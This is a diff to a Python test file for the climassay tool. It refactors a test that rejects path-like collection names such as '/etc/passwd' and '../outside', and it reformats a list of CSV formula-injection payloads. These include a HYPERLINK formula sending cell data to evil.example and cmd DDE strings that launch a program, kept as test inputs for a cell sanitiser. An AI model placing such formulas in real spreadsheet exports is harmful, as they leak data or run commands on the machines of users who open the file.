@@ -14,7 +14,6 @@ from climassay.io import safe_cell
 from climassay.reporting import Table, as_csv
 from climassay.reporting.tables import Column
 from climassay.workspace import Workspace
-from command_line import run_command
 from killed_process import START
 
 posix = pytest.mark.skipif(os.name != "posix", reason="rights and links of files are those of POSIX")
@@ -130,12 +129,12 @@ NAMES = ["../outside", "/etc/passwd", "a/b", "a\\b", "..", ".hidden", "a\nb", "a
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_the_name_of_a_collection_is_no_path(name, tmp_path, monkeypatch, capsys):
+def test_the_name_of_a_collection_is_no_path(name, tmp_path, climassay):
     (tmp_path / "seas.txt").write_text("The sea warms.")
     workspace = tmp_path / "deep" / "workspace"
     before = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
     for arguments in (("add", name, tmp_path / "seas.txt"), ("show", name), ("remove", name, "--yes")):
-        code, _, err = run_command(monkeypatch, capsys, "corpus", *arguments, "--workspace", workspace)
+        code, _, err = climassay("corpus", *arguments, "--workspace", workspace)
         assert code == 2
         assert "cannot name a collection" in err
     after = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
@@ -143,32 +142,12 @@ def test_the_name_of_a_collection_is_no_path(name, tmp_path, monkeypatch, capsys
 
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/"&A1,"open")',
-    "=1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "-A1",
-    "+1-SUM(A1)",
-]
+    '=HYPERLINK("http://evil.example/"&A1,"open")', "=1+1", "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-A1", "+1-SUM(A1)",
+]  # fmt: skip
 PLAIN = [
-    "-0.35",
-    "+1.2",
-    "−0.12",
-    "-0.12 to 0.30",
-    "-1.5e-3",
-    "+3.1 [-2.0, 8.2]",
-    "-",
-    "",
-    "text",
-    "a = b",
-    3,
-    -0.5,
-    None,
-]
+    "-0.35", "+1.2", "−0.12", "-0.12 to 0.30", "-1.5e-3", "+3.1 [-2.0, 8.2]", "-", "", "text", "a = b", 3, -0.5, None,
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
